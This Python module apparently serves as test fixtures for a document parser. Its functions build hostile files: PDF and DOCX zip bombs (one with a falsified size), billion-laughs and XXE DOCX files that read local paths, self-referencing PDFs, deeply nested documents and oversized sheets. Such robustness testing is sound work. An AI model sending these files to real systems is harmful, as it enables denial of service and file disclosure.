"""Files that are made to harm whoever opens them; each function returns the bytes of one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

MB = 1024 * 1024

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Return a PDF of these objects, numbered from 1, with a right cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start))
    return out.getvalue()


def zeros(size: int) -> bytes:
    """Return a zlib stream of `size` spaces, made by repeating one compressed block: no gigabytes are touched."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    block = packer.compress(b" " * MB) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return b"\x78\xda" + block * (size // MB) + end + b"\0\0\0\0"


def flate_bomb_pdf(size: int = 3 * 1024 * MB) -> bytes:
    """Return some kilobytes whose page's content unpacks twice, to `size` bytes."""
    stream = zlib.compress(zeros(size), 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            head + stream + b"\nendstream",
        ]
    )


def many_pages_pdf(count: int) -> bytes:
    """Return a PDF of `count` blank pages, some 90 bytes each."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *[page] * count])


def endless_page_tree_pdf() -> bytes:
    """Return a PDF whose page tree holds itself."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000 >>"])


def endless_form_pdf() -> bytes:
    """Return a PDF whose page draws a form that draws itself."""
    draw = b"<< /Length 6 /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >> >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R "
            b"/Resources << /XObject << /F 5 0 R >> >> >>",
            b"<< /Length 6 >>\nstream\n/F Do \nendstream",
            draw + b"\nstream\n/F Do \nendstream",
        ]
    )


def docx(document: bytes | str, **parts: bytes | str) -> bytes:
    """Return a DOCX with this main part as it is."""
    return package({"[Content_Types].xml": _TYPES, "word/document.xml": document, **parts})


def xlsx(sheet: bytes | str, **parts: bytes | str) -> bytes:
    """Return an XLSX with one sheet, its XML as it is."""
    workbook = (
        f'<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    return package(
        {
            "[Content_Types].xml": _TYPES,
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": relations,
            "xl/worksheets/sheet1.xml": sheet,
            **parts,
        }
    )


def package(parts: dict[str, bytes | str]) -> bytes:
    """Return a zip of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def document(*body: str) -> str:
    """Return a Word document's main part around these blocks."""
    return f'<w:document xmlns:w="{_W}"><w:body>{"".join(body)}</w:body></w:document>'


def worksheet(rows: str, dimension: str = "A1:XFD1048576") -> str:
    """Return a sheet's part around these rows, declaring a dimension of its own choice."""
    return f'<worksheet xmlns="{_S}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'


def zip_bomb_docx(size: int = 2560 * MB) -> bytes:
    """Return a DOCX of a few megabytes whose main part unpacks to `size` bytes, honestly declared."""
    packed = zeros(size)[2:-4]
    name = b"word/document.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), size, len(name), 0) + name
    entry = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), size, len(name), 0, 0, 0, 0, 0, 0
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry + name), len(local) + len(packed), 0)
    return local + packed + entry + name + end


def lying_zip_bomb_docx(size: int = 2560 * MB) -> bytes:
    """Return the same bomb, declaring that its main part has 1,000 bytes."""
    return zip_bomb_docx(size).replace(struct.pack("<I", size), struct.pack("<I", 1000))


def billion_laughs_docx() -> bytes:
    """Return a DOCX of a kilobyte whose entities stand for a thousand million words."""
    entities = '<!ENTITY a0 "laugh">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10)
    )
    return docx(f"<?xml version='1.0'?><!DOCTYPE d [{entities}]>" + document("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"))


def external_entity_docx(path: str) -> bytes:
    """Return a DOCX that asks its reader to include a file of the reader's machine."""
    head = f"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY x SYSTEM 'file://{path}'>]>"
    return docx(head + document("<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>"))


def deep_docx(depth: int = 100_000) -> bytes:
    """Return a DOCX of tables in tables."""
    return docx(document("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth))


def deep_html(depth: int = 200_000) -> bytes:
    """Return HTML of boxes in boxes, with a word at the bottom and one behind."""
    return b"<html><body>" + b"<div>" * depth + b"deep" + b"</div>" * depth + b"<p>behind</p></body></html>"


def sparse_xlsx() -> bytes:
    """Return a sheet that claims all of its 17 thousand million cells and holds three."""
    cells = [(1, "A1"), (2, "B2"), (1_048_576, "XFD1048576")]
    return xlsx(worksheet("".join(f'<row r="{row}"><c r="{at}"><v>{row}</v></c></row>' for row, at in cells)))


def diagonal_xlsx(size: int = 3000) -> bytes:
    """Return a sheet in which each row uses another column: as a table, `size` squared cells."""

    def name(column: int) -> str:
        letters = ""
        while column:
            column, rest = divmod(column - 1, 26)
            letters = chr(65 + rest) + letters
        return letters

    return xlsx(worksheet("".join(f'<row r="{n}"><c r="{name(n)}{n}"><v>1</v></c></row>' for n in range(1, size + 1))))


def ole(*names: str) -> bytes:
    """Return an OLE container whose directory names these streams, as old and encrypted office files are."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[30:32] = (9).to_bytes(2, "little")
    header[48:52] = (0).to_bytes(4, "little")
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))
    return bytes(header) + directory.ljust(4096, b"\0")
